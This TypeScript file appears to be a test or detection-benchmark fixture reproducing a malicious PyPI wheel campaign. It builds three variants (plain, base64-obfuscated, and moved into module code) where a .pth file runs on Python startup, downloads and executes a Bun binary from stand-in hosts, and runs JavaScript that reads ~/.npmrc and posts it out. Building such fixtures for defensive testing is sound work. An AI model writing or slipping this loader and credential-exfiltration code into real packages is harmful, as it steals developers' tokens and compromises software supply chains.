import { base64, type Campaign, wheel } from './kit.ts';

const SCRIPT = `const fs = require('fs'), os = require('os');
fetch('https://api.models.weir.test/v1/api', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });
`;

export const campaign: Campaign = {
  id: 'pypi-durabletask',
  row: 'durabletask / Hades 5-6/2026: a .pth file starts JavaScript under another runtime',
  variants: [
    {
      concealment: 'plain',
      files: wheel('VERSION = 1\n', {
        'campaign-setup.pth':
          "import os; os.system('curl -fsSL https://files.weir.test/bun -o /tmp/bun && chmod +x /tmp/bun && /tmp/bun run _index.js')\n",
        '_index.js': SCRIPT,
      }),
    },
    {
      concealment: 'obfuscated',
      files: wheel('VERSION = 1\n', {
        'campaign-setup.pth': `import base64, os; os.system(base64.b64decode('${base64('curl -fsSL https://files.weir.test/bun -o /tmp/bun && chmod +x /tmp/bun && /tmp/bun run _index.js')}').decode())\n`,
        '_index.js': SCRIPT,
      }),
    },
    {
      concealment: 'moved',
      files: wheel(
        `import os, subprocess, urllib.request
path = os.path.expanduser('~/.cache/bun')
urllib.request.urlretrieve('https://files.weir.test/bun-linux-x64', path)
os.chmod(path, 0o755)
subprocess.Popen([path, 'run', os.path.join(os.path.dirname(__file__), '_index.js')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`,
        { 'campaign_sample/_index.js': SCRIPT },
      ),
    },
  ],
};
